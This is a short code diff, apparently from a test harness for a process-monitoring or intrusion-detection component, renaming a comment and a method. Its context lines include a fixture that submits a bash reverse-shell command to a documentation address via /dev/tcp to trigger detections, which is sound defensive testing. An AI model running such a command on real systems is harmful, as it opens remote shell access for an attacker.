@@ -76,7 +76,7 @@ export function forward() {
     while (detections.isBehind()) await nextTurn();
   };
   return {
-    /** So many harmless starts with different command lines. */
+    /** This many harmless starts with different command lines. */
     async starts(count: number): Promise<void> {
       for (let index = 0; index < count; index += 1) {
         const line = HARMLESS[index % HARMLESS.length]?.(number) ?? '';
@@ -89,7 +89,7 @@ export function forward() {
         await take(`/tmp/x${number}/bash`, `bash -c bash -i >& /dev/tcp/192.0.2.1/${number % 65_536} 0>&1`);
     },
     accounts: (): AlertAccounts => alerts.accounts(),
-    unjudged: (): string | undefined => detections.status().problem,
+    problem: (): string | undefined => detections.status().problem,
     savedBytes: (): number => JSON.stringify([alerts.toJson(), detections.toJson()]).length,
   };
 }
